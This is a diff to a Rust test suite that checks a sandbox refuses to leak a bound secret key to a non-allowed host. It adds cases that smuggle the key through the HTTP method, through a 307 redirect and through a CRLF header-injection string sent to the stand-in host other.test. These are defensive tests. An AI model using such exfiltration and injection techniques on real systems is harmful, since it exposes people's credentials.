@@ -154,6 +154,9 @@ async fn another_host_gets_nothing_in_any_part_of_the_request() {
         "ctx.fetch('OTHER/x?k=' + encodeURIComponent(key))",
         "ctx.fetch('OTHER/x', { method: 'POST', body: JSON.stringify({ secret: key }) })",
         "ctx.fetch('OTHER/x', { method: 'POST', body: btoa('user:' + key) })",
+        // An extension method is any token: the value itself can be one.
+        "ctx.fetch('OTHER/x', { method: key })",
+        "ctx.fetch('OTHER/x', { method: key.toLowerCase() })",
     ] {
         let err = fetch_with_key(&hosts, &host, fetch).await.unwrap_err();
         assert_eq!(
@@ -168,7 +171,7 @@ async fn another_host_gets_nothing_in_any_part_of_the_request() {
     }
     assert!(hosts.other.1.all().is_empty(), "{:?}", hosts.other.1.all());
     let blocked = host.egress_blocked.lock().unwrap().clone();
-    assert_eq!(blocked.len(), 6);
+    assert_eq!(blocked.len(), 8);
     assert!(blocked
         .iter()
         .all(|(name, h)| name == "STRIPE_KEY" && h == "other.test"));
@@ -216,4 +219,51 @@ async fn unbound_secrets_go_anywhere_as_before() {
     assert_eq!(result.unwrap(), json!(200));
     assert_eq!(hosts.other.1.all().len(), 1);
     assert!(host.egress_blocked.lock().unwrap().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_method_carrying_the_value_is_checked_at_a_redirect_too() {
+    let hosts = two_hosts().await;
+    let host = bound_host();
+    let other = format!("http://other.test:{}/landed", hosts.other.0);
+    // A 307 repeats the method at the next host.
+    let fetch = format!("ctx.fetch('ALLOWED/redirect?status=307&to=' + encodeURIComponent('{other}'), {{ method: key }})");
+    let err = fetch_with_key(&hosts, &host, &fetch).await.unwrap_err();
+    assert_eq!(err.code, ErrorCode::FetchRefused, "{}", err.message);
+    assert!(
+        err.message.contains("a redirect to other.test"),
+        "{}",
+        err.message
+    );
+    assert!(hosts.other.1.all().is_empty(), "{:?}", hosts.other.1.all());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_method_that_is_not_a_token_is_refused_unsent() {
+    let hosts = two_hosts().await;
+    let host = TestHost::with(&[("STRIPE_KEY", KEY)]);
+    for method in [
+        "''",
+        "'GET /x HTTP/1.1'",
+        "'GET\\r\\nX-Leak: ' + key",
+        "'G\\u00c9T'",
+        "'CONNECT'",
+        "'trace'",
+    ] {
+        let fetch = format!("ctx.fetch('OTHER/x', {{ method: {method} }})");
+        let err = fetch_with_key(&hosts, &host, &fetch).await.unwrap_err();
+        assert_eq!(
+            err.code,
+            ErrorCode::ActionError,
+            "{method}: {}",
+            err.message
+        );
+        assert!(
+            err.message.contains("not a valid HTTP method"),
+            "{method}: {}",
+            err.message
+        );
+        assert!(!err.message.contains(KEY), "{}", err.message);
+    }
+    assert!(hosts.other.1.all().is_empty(), "{:?}", hosts.other.1.all());
 }
